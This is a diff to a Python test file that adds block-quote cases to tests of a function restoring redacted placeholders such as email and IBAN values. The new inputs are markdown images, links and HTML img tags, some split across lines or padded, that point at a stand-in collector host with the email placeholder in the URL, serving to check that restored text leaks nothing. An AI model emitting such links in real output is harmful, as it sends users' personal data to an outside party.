@@ -56,6 +56,21 @@ IN_MARKDOWN = [
     "[x](mailto:x@sammler.example?body=[[EMAIL_1]])",
     "mailto:[[IBAN_1]]@sammler.example",
 ]
+IN_BLOCK_QUOTES = [
+    "> ![x](\n> //sammler.example/?m=[[EMAIL_1]])",
+    "> ![x](\n>//sammler.example/?m=[[EMAIL_1]])",
+    "> [Akte](\n>\t//sammler.example/?m=[[EMAIL_1]])",
+    "> > [Akte](\n> >  //sammler.example/?m=[[EMAIL_1]])",
+    "- > [Akte](\n  > //sammler.example/?m=[[EMAIL_1]])",
+    "> [Akte](\n> <//sammler.example/a b[[EMAIL_1]]>)",
+    "> [Akte]:\n> //sammler.example/?m=[[EMAIL_1]]",
+    "> Akte <img src=\n> //sammler.example/[[EMAIL_1]]>",
+    '> Akte <img src="/\n> /sammler.example/[[EMAIL_1]]">',
+    '> Akte <img src="https\n> :sammler.example/[[EMAIL_1]]">',
+    "> Akte <a href='ht\n>   tps:sammler.example/[[EMAIL_1]]'>",
+    4086 * "a" + '<img src="/\n   /sammler.example/[[EMAIL_1]]">',
+    4085 * "a" + '<img src="/\n> /sammler.example/[[EMAIL_1]]">',
+]
 IN_HTML = [
     '<img src="http\ts://sammler.example/a b[[EMAIL_1]]">',
     '<img src="https\n:/\n/sammler.example/\n[[EMAIL_1]]">',
@@ -72,7 +87,7 @@ IN_HTML = [
 ]
 
 
-@pytest.mark.parametrize("text", [*BEHIND_A_VALUE, *IN_MARKDOWN, *IN_HTML])
+@pytest.mark.parametrize("text", [*BEHIND_A_VALUE, *IN_MARKDOWN, *IN_BLOCK_QUOTES, *IN_HTML])
 def test_no_reader_gets_more_than_an_own_address(text: str) -> None:
     shown = restore(text, VAULT).text
     assert MAIL not in shown.replace(f"mailto:{MAIL}", "", 1)
@@ -97,6 +112,7 @@ def test_no_reader_gets_more_than_an_own_address(text: str) -> None:
         "// x@sammler.example/[[EMAIL_1]]",
         "// [[EMAIL_1]]\n@sammler.example/",
         "///sammler.example/a b[[EMAIL_1]]",
+        "> ![x](\n> //sammler.example/?m=[[EMAIL_1]])",
     ],
 )
 @pytest.mark.parametrize("is_spelled", [True, False])
@@ -108,6 +124,13 @@ def test_nor_does_a_call(address: str, is_spelled: bool) -> None:
     assert json.loads(shown)["to"] == MAIL
     for size in (1, 2, 3, 7):
         assert streamed(text, size, json_escape=True) == shown
+
+
+def test_values_of_a_block_quote_come_back() -> None:
+    text = "> Siehe [Akte](https://x.example)\n> [[EMAIL_1]]\n>\n> > [[IBAN_1]]\n\n<b>[[EMAIL_1]]</b>"
+    shown = text.replace("[[EMAIL_1]]", MAIL).replace("[[IBAN_1]]", IBAN)
+    assert restore(text, VAULT).text == shown
+    assert all(streamed(text, size) == shown for size in (1, 2, 3, 7))
 
 
 def test_prose_of_a_call_keeps_its_values_behind_an_address() -> None:
